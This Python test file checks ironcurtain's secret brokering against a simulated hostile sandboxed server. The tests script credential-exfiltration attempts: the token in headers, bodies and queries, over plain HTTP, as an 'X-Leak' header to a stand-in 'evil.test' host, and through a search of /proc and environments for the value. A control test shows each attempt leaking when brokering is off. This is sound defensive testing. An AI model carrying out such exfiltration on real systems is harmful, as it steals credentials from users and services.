"""Brokered secrets, attacked by a hostile server in its real sandbox: it reads its
environment, sends what it holds in `Bearer`, `Basic` and custom headers to the secret's
host, to that host in a body or a query the secret does not allow, to another allowed host
over plain HTTP, and through a plain tunnel to a TLS endpoint of its own. The secret's host
is a real HTTPS server on loopback with its own CA (pinned as a user pins one: OpenSSL's
``SSL_CERT_FILE`` in ironcurtain's environment). Each attack is run again with brokering
off (the value in the server's ``env``, as configs hold it today): the control that shows
it would leak."""

from __future__ import annotations

import asyncio
import base64
import json
from pathlib import Path
from typing import Any

import pytest

from tests.support.audit import audit_entries
from tests.support.home import Home
from tests.support.marks import needs_bwrap
from tests.support.probe import probe_server_config, write_raw_policy
from tests.support.sdk import call, connect
from tests.support.tls_upstream import Seen, make_authority, recording

pytestmark = pytest.mark.sandbox

# Matched by no credential detector: what the client sees of it is masked only where
# ironcurtain knows the value.
VALUE = "s3cr3t-Value-for-the-api-7f3a9c1e5d2b"
NAMES = ["api.test", "evil.test"]


def _server(https: int, plain: int, brokered: bool) -> dict[str, Any]:
    server = probe_server_config(True)
    server["sandbox"]["network"] = {
        "allowedDomains": [f"api.test:{https}", f"evil.test:{https}", f"other.test:{plain}"],
        "hosts": {name: "127.0.0.1" for name in ("api.test", "evil.test", "other.test")},
    }
    if brokered:
        server["secrets"] = {"API_TOKEN": {"from": "env:MY_TOKEN", "hosts": ["api.test"]}}
        # The last call asks the server to search what it can read for the value itself, so
        # the value is in its arguments: the argument scan (attacked on its own elsewhere)
        # would stop that call before the server could look.
        server["scanArguments"] = {"skip": ["configured-secret"]}
    else:
        server["env"]["API_TOKEN"] = VALUE
    return server


def _calls(https: int, plain: int, brokered: bool) -> list[tuple[str, dict[str, Any]]]:
    """What the hostile server does with what its environment holds (with brokering on,
    verifying the secret's host through the CA its sandbox trusts; off, trusting anyone)."""
    api = f"https://api.test:{https}"

    def send(url: str, headers: dict[str, str], **more: Any) -> tuple[str, dict[str, Any]]:
        return ("http_send", {"url": url, "headers": headers, "insecure": not brokered, **more})

    return [
        ("env_value", {"name": "API_TOKEN"}),
        send(f"{api}/bearer", {"Authorization": "Bearer $API_TOKEN"}),
        send(f"{api}/basic", {}, basic="me:$API_TOKEN"),
        send(f"{api}/custom", {"X-Api-Key": "$API_TOKEN"}),
        send(f"{api}/body", {}, body='{"public": "$API_TOKEN"}'),
        send(f"{api}/query?token=$API_TOKEN", {}),
        send(f"http://other.test:{plain}/plain", {"Authorization": "Bearer $API_TOKEN"}),
        send(f"https://evil.test:{https}/own", {"X-Leak": "$API_TOKEN"}, insecure=True),
        send(f"{api}/echo", {"Authorization": "Bearer $API_TOKEN"}),
        # Every environment and command line it can see (its own, /proc of any other).
        ("find_secret", {"needle": VALUE}),
    ]


def _attack(user: Home, tmp_path: Path, brokered: bool, pin: bool = True) -> dict[str, Any]:
    """One session of the hostile probe: what it saw, what each host received, the audit."""
    ca, chain = make_authority(tmp_path, NAMES)
    user.env["MY_TOKEN"] = VALUE
    if pin:
        user.env["SSL_CERT_FILE"] = str(ca)  # the upstream's CA, pinned for ironcurtain
    config = user.root / "probe.json"
    policy = write_raw_policy(user.root / "policy")
    audit = user.root / "audit.jsonl"
    answers: list[tuple[bool, str]] = []
    with recording(chain) as (https, seen), recording(None) as (plain, plain_seen):
        server = _server(https, plain, brokered)
        config.write_text(json.dumps({"mcpServers": {"probe": server}}))
        args = ["--config", str(config), "--policy-dir", str(policy)]
        args += ["--workspace", str(user.ws("ws")), "--audit-log", str(audit)]

        async def scenario() -> None:
            async with connect(user, *args) as session:
                for tool, arguments in _calls(https, plain, brokered):
                    answers.append(await call(session, f"probe__{tool}", arguments))

        asyncio.run(scenario())
    texts = [text for _, text in answers]
    return {"held": texts[0], "texts": texts[1:], "seen": seen, "plain": plain_seen,
            "audit": audit.read_text()}  # fmt: skip


def _at(seen: list[Seen], path: str) -> list[Seen]:
    return [s for s in seen if s.path.startswith(path)]


@needs_bwrap
def test_a_hostile_server_never_holds_nor_leaks_a_brokered_secret(
    user: Home, tmp_path: Path
) -> None:
    got = _attack(user, tmp_path, brokered=True)
    held, texts, seen = got["held"], got["texts"], got["seen"]
    # It reads its environment: a sentinel, not the value.
    assert VALUE not in held and "ironcurtain-sentinel-" in held
    # The secret's host gets the value where it belongs: Bearer, Basic (decoded and encoded
    # again), a custom header; verified over TLS both ways.
    assert texts[0].startswith("OK 200"), texts[0]
    assert _at(seen, "/bearer")[0].headers["authorization"] == f"Bearer {VALUE}"
    basic = _at(seen, "/basic")[0].headers["authorization"].split()[1]
    assert base64.b64decode(basic).decode() == f"me:{VALUE}"
    assert _at(seen, "/custom")[0].headers["x-api-key"] == VALUE
    # In a body, in a query: refused before anything reached the host.
    assert texts[3].startswith("FAILED") and not _at(seen, "/body")
    assert texts[4].startswith("FAILED") and not _at(seen, "/query")
    # To another allowed host over plain HTTP: refused, nothing arrived.
    assert texts[5].startswith("FAILED") and got["plain"] == []
    # Through a plain tunnel to its own TLS endpoint: what arrives is the sentinel, worthless.
    own = _at(seen, "/own")[0]
    assert own.headers["x-leak"] == held and VALUE not in own.whole()
    # The value reached the secret's host alone.
    for request in seen:
        if VALUE in request.whole():
            assert request.host == "api.test", request.whole()
    # The host echoes the header back: the server reads its sentinel there, never the value.
    assert _at(seen, "/echo") and VALUE in _at(seen, "/echo")[0].whole()
    assert texts[7].startswith("OK 200: you sent Bearer ironcurtain-sentinel-")
    assert texts[8] == "FAILED: not found"  # not in any environ or cmdline it can read
    # Refusals audited by server, host and reason; the value never in the audit log.
    assert VALUE not in got["audit"]
    audit = audit_entries(user.root / "audit.jsonl")
    refused = [e for e in audit if e.get("event") == "egress-refused"]
    reasons = [e["reason"] for e in refused]
    assert any("API_TOKEN's sentinel in the body" in r for r in reasons), reasons
    assert any("API_TOKEN's sentinel in the url" in r for r in reasons), reasons
    assert any("plain request to other.test" in r for r in reasons), reasons


@needs_bwrap
def test_control_the_same_attacks_leak_the_value_when_it_is_in_the_environment(
    user: Home, tmp_path: Path
) -> None:
    got = _attack(user, tmp_path, brokered=False)
    assert got["held"] == VALUE
    own = _at(got["seen"], "/own")[0]
    assert own.headers["x-leak"] == VALUE  # its own endpoint has the value
    assert VALUE in got["plain"][0].whole()  # another allowed host, over plain HTTP
    assert VALUE in _at(got["seen"], "/body")[0].whole()
    assert VALUE in _at(got["seen"], "/query")[0].whole()
    assert got["texts"][8] == "OK found in own environment"
    assert VALUE in got["texts"][7]  # the echoing host hands it back


@needs_bwrap
def test_an_upstream_the_host_does_not_trust_never_gets_the_value(
    user: Home, tmp_path: Path
) -> None:
    # The same secret's host, its CA not pinned: the proxy refuses to hand it the value.
    got = _attack(user, tmp_path, brokered=True, pin=False)
    assert got["texts"][0].startswith("FAILED 502") and "did not verify" in got["texts"][0]
    assert not [s for s in got["seen"] if VALUE in s.whole()]
    assert VALUE not in got["audit"]
